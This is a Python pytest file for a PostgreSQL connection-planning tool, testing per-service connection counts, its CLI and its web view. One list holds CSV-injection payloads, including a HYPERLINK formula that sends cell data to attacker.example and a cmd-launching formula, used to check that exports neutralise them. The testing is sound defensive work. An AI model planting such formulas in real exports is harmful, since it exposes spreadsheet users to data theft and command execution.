"""The live check's connections per service, against the real PostgreSQL fixture.

Connections are opened here with known application_name values (as the app role and as
the superuser: application_name is visible across roles), so every expected count comes
from what this test opened, never from the live check's output. The plan's figures come
from the recommendation's own by_service rows.
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import asyncpg
import pytest

from wizard.core.model import Replica, Reserves, Scenario, ScenarioError, Service
from wizard.core.plan import recommend
from wizard.fleet.pgserver import PgServer
from wizard.live import (
    APP_NAME,
    endpoint_overrides,
    parse_target,
    run_live_check,
    service_usage,
)
from wizard.live.cli import render_usage
from wizard.scenario import files, links

if TYPE_CHECKING:
    from streamlit.testing.v1 import AppTest

pytestmark = pytest.mark.db

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture(autouse=True)
def _fixture_ports_allowed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POOLWISE_LIVE_ALLOWED_PORTS", "1024-65535")
    for name in ("POOLWISE_LIVE_DISABLED", "POOLWISE_LIVE_ALLOWED_HOSTS",
                 "POOLWISE_LIVE_PASSWORD"):
        monkeypatch.delenv(name, raising=False)


def names() -> dict[str, str]:
    """Service and stray names unique to this test run (the fixture server is shared)."""
    tag = secrets.token_hex(3)
    return {"api": f"api-{tag}", "worker": f"worker-{tag}", "cron": f"cron-{tag}",
            "stray": f"adhoc-{tag}"}


def estate_for(n: dict[str, str], max_connections: int = 60) -> Scenario:
    return Scenario(
        provider="self-hosted", instance_class=None, max_connections=max_connections,
        pg_version=15, reserves=Reserves(superuser=3),
        services=(Service(name=n["api"], kind="web", app_instances=2, max_app_instances=3,
                          workers=2),
                  Service(name=n["worker"], kind="worker", app_instances=1, workers=2),
                  Service(name=n["cron"], kind="cron", app_instances=1,
                          deploy_surge_percent=0)))


@asynccontextmanager
async def opened(pg: PgServer, plan: list[tuple[str | None, int, bool]]
                 ) -> AsyncIterator[None]:
    """Hold connections: (application_name or None for none, how many, as the superuser)."""
    conns = []
    try:
        for app, count, admin in plan:
            dsn = pg.dsn(user=pg.admin_user) if admin else pg.dsn()
            for _ in range(count):
                conns.append(await asyncpg.connect(
                    dsn, server_settings={"application_name": app or ""}))
        yield
    finally:
        for c in conns:
            await c.close()


def target(pg: PgServer):
    return parse_target(f"postgresql://{pg.user}@{pg.host}:{pg.port}/{pg.database}",
                        pg.password, env={})


async def test_connections_map_to_services_and_strays(pg: PgServer) -> None:
    n = names()
    rec = recommend(estate_for(n))
    shares = {b.service: b for b in rec.endpoint("primary").by_service}
    cron = shares[n["cron"]]
    assert cron.allotment is not None and cron.allotment <= 8  # a small fixed share
    over = cron.allotment + 1  # one more than cron may hold
    plan = [(n["api"], 3, False), (n["worker"], 1, False), (n["worker"], 1, True),
            (n["cron"], over, False), (n["stray"], 2, True)]
    async with opened(pg, plan):
        report = await run_live_check(target(pg), pre_ping=0)
    assert report.readings is not None
    u = service_usage(rec, "primary", report.readings.by_application, APP_NAME)
    rows = {r.service: r for r in u.services}
    assert [r.service for r in u.services] == [n["api"], n["worker"], n["cron"]]
    # Counted per name, across roles (the superuser's "worker" connection included).
    assert (rows[n["api"]].connections, rows[n["worker"]].connections,
            rows[n["cron"]].connections) == (3, 2, over)
    for name, row in rows.items():  # the plan's figures, as the recommendation has them
        assert (row.worst_case, row.allotment, row.allotment_how) == (
            shares[name].worst_case, shares[name].allotment, shares[name].allotment_how)
    assert rows[n["cron"]].status == "over_allotment"
    others_peak = sum(b.worst_case for name, b in shares.items() if name != n["cron"])
    usable = rec.endpoint("primary").usable
    assert (f"over its allotment of {cron.allotment}" in rows[n["cron"]].message
            and f"would see {over + others_peak:,} of {usable:,} usable"
            in rows[n["cron"]].message)
    assert rows[n["api"]].status == "ok" and rows[n["worker"]].status == "ok"
    others = {o.application_name: o for o in u.others}
    assert (others[n["stray"]].connections, others[n["stray"]].why) == (2, "unknown")
    # This check's connection, plus any a pooler still names after earlier checks.
    own = others[APP_NAME].connections
    assert own >= 1 and others[APP_NAME].why == "live check"
    # Every connection the server showed is in exactly one row; the check's own is no stray.
    assert sum(r.connections for r in u.services) + sum(o.connections for o in u.others) \
        == u.in_use == sum(report.readings.by_application.values())
    assert u.unplanned == u.in_use - own - (3 + 2 + over)
    assert u.planned == sum(b.worst_case for b in shares.values())
    assert u.over
    assert any(n["stray"] in note for note in u.notes)


async def test_more_than_the_plan_but_within_the_allotment(pg: PgServer) -> None:
    """A service holding more than its engines open at the peak, still inside its share."""
    n = names()
    rec = recommend(estate_for(n, max_connections=60))
    share_ = next(b for b in rec.endpoint("primary").by_service if b.service == n["worker"])
    extra = share_.worst_case + 1
    if share_.allotment is None or share_.allotment < extra or extra > 30:
        pytest.skip(f"the plan gives the worker no room between {share_.worst_case} and its "
                    f"allotment {share_.allotment}")
    async with opened(pg, [(n["worker"], extra, False)]):
        report = await run_live_check(target(pg), pre_ping=0)
    u = service_usage(rec, "primary", report.readings.by_application, APP_NAME)
    row = next(r for r in u.services if r.service == n["worker"])
    assert (row.connections, row.status) == (extra, "over_plan")
    assert f"more than the {share_.worst_case}" in row.message


async def test_a_service_on_an_endpoint_the_plan_keeps_it_off(pg: PgServer) -> None:
    n = names()
    s = estate_for(n)
    s = replace(s, replicas=(Replica(max_connections=60),),
                services=(replace(s.services[0], endpoints=("primary", "replica-1")),
                          replace(s.services[1], endpoints=("primary",)), s.services[2]))
    rec = recommend(s)
    async with opened(pg, [(n["worker"], 2, False)]):
        report = await run_live_check(target(pg), pre_ping=0)
    # Pretend this server is the replica: the worker has no budget there.
    u = service_usage(rec, "replica-1", report.readings.by_application, APP_NAME)
    assert n["worker"] not in [r.service for r in u.services]
    assert {o.application_name: o.why for o in u.others}[n["worker"]] == "not planned here"
    with pytest.raises(ScenarioError):
        service_usage(rec, "replica-7", report.readings.by_application, APP_NAME)


async def test_flags_form_counts_every_other_connection_as_the_apps(pg: PgServer) -> None:
    n = names()
    rec = recommend(Scenario.flags(provider="self-hosted", instance_class=None, max_connections=60,
                                   pg_version=15, app_instances=2))
    async with opened(pg, [(n["stray"], 2, False), (None, 1, False)]):
        report = await run_live_check(target(pg), pre_ping=0)
    by_app = report.readings.by_application
    u = service_usage(rec, "primary", by_app, APP_NAME)
    assert [r.service for r in u.services] == ["app"] and not u.named
    assert u.services[0].connections == sum(by_app.values()) - by_app[APP_NAME]
    assert u.services[0].connections >= 3  # at least the ones opened here
    assert by_app.get("(none)", 0) >= 1
    assert "no application_name" in u.notes[0]


async def test_replica_overrides_touch_only_that_replica(pg: PgServer) -> None:
    report = await run_live_check(target(pg), pre_ping=0)
    s = Scenario(provider="self-hosted", instance_class=None, max_connections=500,
                 pg_version=15, replicas=(Replica(max_connections=400),
                                          Replica(max_connections=300)))
    flat = links.to_flat(s)
    measured = int(pg.psql("SHOW max_connections").strip())
    assert endpoint_overrides(flat, report, "replica-2") == {
        "replica_max_connections": f"400,{measured}"}
    assert endpoint_overrides(flat, report, "replica-3") == {}
    assert endpoint_overrides(flat, report, "primary")["max_connections"] == str(measured)


# --------------------------------------------------------------------------- the CLI


def live_cli(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if not k.startswith("POOLWISE_LIVE_")}
    return subprocess.run([sys.executable, "-m", "wizard", "live", *args], cwd=ROOT,
                          env={**base, **env}, capture_output=True, text=True, timeout=60)


def test_cli_scenario_file_json_and_text(pg: PgServer, tmp_path: Path) -> None:
    n = names()
    path = tmp_path / "estate.toml"
    path.write_text(files.dump(estate_for(n)))
    url = f"postgresql://{pg.user}@{pg.host}:{pg.port}/{pg.database}"
    env = {"POOLWISE_LIVE_PASSWORD": pg.password}
    async def run() -> tuple[subprocess.CompletedProcess, subprocess.CompletedProcess]:
        async with opened(pg, [(n["api"], 2, False), (n["stray"], 1, False)]):
            loop = asyncio.get_running_loop()
            j = await loop.run_in_executor(None, live_cli, [
                "--url", url, "--pre-ping", "0", "--scenario", str(path), "--json"], env)
            t = await loop.run_in_executor(None, live_cli, [
                "--url", url, "--pre-ping", "0", "--scenario", str(path)], env)
            return j, t

    j, t = asyncio.run(run())
    assert j.returncode == 0, j.stderr
    d = json.loads(j.stdout)
    usage = d["service_usage"]
    assert usage["role"] == "primary" and usage["named"] is True
    rows = {r["service"]: r for r in usage["services"]}
    assert rows[n["api"]]["connections"] == 2 and rows[n["worker"]]["connections"] == 0
    # The plan it compares with is the one re-sized with the measured values (in the JSON).
    by = {b["service"]: b for b in d["recommendation"]["endpoints"][0]["by_service"]}
    assert rows[n["api"]]["worst_case"] == by[n["api"]]["worst_case"]
    assert {o["application_name"]: o["why"] for o in usage["others"]}[n["stray"]] == "unknown"
    assert t.returncode == 0, t.stderr
    assert "by service" in t.stdout and n["api"] in t.stdout and n["stray"] in t.stdout
    for proc_ in (j, t):
        assert pg.password not in proc_.stdout and pg.password not in proc_.stderr


def test_cli_refuses_unknown_endpoint_and_ambiguous_exhaustion(tmp_path: Path) -> None:
    """Refused before any connection: the URL points nowhere."""
    path = tmp_path / "estate.toml"
    path.write_text(files.dump(estate_for(names())))
    url = "postgresql://u@127.0.0.1:1/d"
    p = live_cli(["--url", url, "--scenario", str(path), "--endpoint", "replica-2"], {})
    assert p.returncode == 2 and "valid choices: primary" in p.stderr
    p = live_cli(["--url", url, "--scenario", str(path), "--exhaustion"], {})
    assert p.returncode == 2 and "--service NAME" in p.stderr
    p = live_cli(["--url", url, "--scenario", str(path), "--service", "nope"], {})
    assert p.returncode == 2 and "not in this scenario" in p.stderr


def test_render_usage_names_every_row() -> None:
    n = names()
    rec = recommend(estate_for(n))
    u = service_usage(rec, "primary", {n["api"]: 4, n["stray"]: 1, APP_NAME: 1}, APP_NAME)
    text = render_usage(u)
    for name in (n["api"], n["worker"], n["cron"], n["stray"], APP_NAME):
        assert name in text
    assert "live check" in text and "unknown" in text


# --------------------------------------------------------------------------- the web app


def _live_step_script(host: str, port: int, user: str, database: str, password: str,
                      query: dict[str, str]) -> None:
    """The live step's result view for a real check and the plan `query` describes (the
    wizard's own form has no services yet: the step is fed the estate's recommendation)."""
    import asyncio

    from wizard import live
    from wizard.core.plan import recommend
    from wizard.scenario import links
    from wizard.ui import live as ui_live

    t = live.parse_target(f"postgresql://{user}@{host}:{port}/{database}", password, env={})
    report = asyncio.run(live.run_live_check(t, pre_ping=0))
    ui_live._show(live, report, {}, recommend(links.from_flat(query)), "primary")


def run_live_step(pg: PgServer, query: dict[str, str],
                  held: list[tuple[str | None, int, bool]]) -> AppTest:
    """The live step run as a visitor would, while `held` connections are open."""
    from streamlit.testing.v1 import AppTest
    async def run() -> AppTest:
        async with opened(pg, held):
            at = AppTest.from_function(_live_step_script, args=(
                pg.host, pg.port, pg.user, pg.database, pg.password, query),
                default_timeout=60)
            return await asyncio.get_running_loop().run_in_executor(None, at.run)

    main = sys.modules["__main__"]
    try:
        at = asyncio.run(run())
    finally:
        # AppTest leaves its generated script as __main__, which spawned processes (the
        # fleet harness) would then run: put the real one back.
        sys.modules["__main__"] = main
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_live_step_shows_connections_by_service(pg: PgServer) -> None:

    n = names()
    query = links.to_flat(estate_for(n))
    rec = recommend(estate_for(n))

    at = run_live_step(pg, query, [(n["worker"], 2, False),
                                   (f"<b>{n['stray']}</b>", 1, False)])
    table = at.dataframe[0].value
    rows = {r["application_name"]: r for r in table.to_dict("records")}
    worker = next(b for b in rec.endpoint("primary").by_service if b.service == n["worker"])
    assert rows[n["worker"]]["connections now"] == 2
    assert rows[n["worker"]]["peak in the plan"] == worker.worst_case
    assert rows[n["api"]]["connections now"] == 0
    # A name from the server is data in a table cell, never Markdown or HTML.
    assert rows[f"<b>{n['stray']}</b>"]["status"] == "unknown"
    assert "Connections by service on primary" in at.markdown[0].value
    shown = "\n".join(str(e.value) for kind in ("markdown", "caption", "warning", "info",
                                                 "success") for e in getattr(at, kind))
    assert pg.password not in shown and pg.password not in table.to_string()


def test_cli_exhaustion_proves_the_chosen_services_pool(pg: PgServer, tmp_path: Path) -> None:
    n = names()
    s = estate_for(n)
    path = tmp_path / "estate.toml"
    path.write_text(files.dump(s))
    engine = recommend(s).service(n["cron"]).rec.engine("primary")
    assert engine.pool_size + engine.max_overflow + 1 <= 10  # a small test
    url = f"postgresql://{pg.user}@{pg.host}:{pg.port}/{pg.database}"
    p = live_cli(["--url", url, "--pre-ping", "0", "--scenario", str(path), "--exhaustion",
                  "--service", n["cron"], "--json"], {"POOLWISE_LIVE_PASSWORD": pg.password})
    assert p.returncode == 0, p.stderr
    d = json.loads(p.stdout)
    plan = d["exhaustion_plan"]
    assert (plan["pool_size"], plan["max_overflow"]) == (engine.pool_size,
                                                          engine.max_overflow)
    assert d["exhaustion"]["timed_out"] is True
    assert pg.password not in p.stdout and pg.password not in p.stderr


FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd", "-2+3"]


def test_live_step_table_is_safe_to_download_as_csv(pg: PgServer) -> None:
    """application_name values are the server's text: in the table (whose toolbar has
    "Download as CSV") none starts with a formula prefix (OWASP CSV injection)."""

    from wizard.export.cells import FORMULA_PREFIXES

    n = names()
    query = links.to_flat(estate_for(n))

    at = run_live_step(pg, query, [(f, 1, False) for f in FORMULAS])
    table = at.dataframe[0].value
    cells = [str(v) for v in table.to_numpy().ravel() if isinstance(v, str)]
    cells += [str(c) for c in table.columns]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells
    names_shown = set(table["application_name"])
    for f in FORMULAS:  # every one is there, as text
        assert "'" + f in names_shown


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\uff1d1+1"])
def test_formula_prefixes_are_neutralised(cell: str) -> None:
    from wizard.export.cells import formula_safe, safe_rows

    assert formula_safe(cell) == "'" + cell
    assert safe_rows([{"a": cell, "n": -1}]) == [{"a": "'" + cell, "n": -1}]
    assert formula_safe("api") == "api" and formula_safe(-3) == -3
